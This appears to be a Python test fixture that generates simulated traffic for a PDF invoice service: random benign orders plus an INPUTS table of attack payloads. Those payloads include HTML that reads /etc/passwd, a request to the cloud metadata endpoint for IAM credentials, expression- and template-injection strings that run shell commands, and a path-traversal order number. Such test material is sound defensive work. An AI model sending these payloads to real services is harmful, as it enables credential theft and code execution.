# SPDX-License-Identifier: Apache-2.0
"""Orders that are sent to pdf-invoice, and what attackers do."""

RUNTIME = "python"
HANDLER = "app.handler"


def _order(traffic, **more):
    order = {"number": f"2026-{traffic.randrange(100000):05d}", "customer": traffic.person(),
             "rows": [{"item": traffic.words(1, 6), "count": traffic.randint(1, 12), "price": traffic.amount()} for _ in range(1 + traffic.rank(40))], **more}
    if traffic.happens(0.3):
        order["note"] = traffic.text(1, 3)
    if traffic.happens(0.1):
        order["paper"] = traffic.choice(["a4", "letter"])
    return order


def benign(traffic):
    if traffic.happens(0.4):
        return traffic.queue(*(_order(traffic) for _ in range(1 if traffic.happens(0.8) else traffic.randint(2, 4))))
    order = _order(traffic)
    if traffic.happens(0.01):
        del order["customer"]
    return traffic.http("POST", "/invoices", body=order)


def _with(**more):
    return lambda traffic: traffic.http("POST", "/invoices", body={**_order(traffic), **more})


INPUTS = {
    "file": _with(note="<img src=\"file:///etc/passwd\"/>"),
    "metadata": _with(note="<img src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"/>"),
    "expression": _with(customer="[[[getattr(pow, Word('__globals__'))['os'].system('touch /tmp/x') for Word in [str]]]]"),
    "template": _with(note="{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    "traversal": _with(number="../../../../tmp/../etc/passwd"),
}
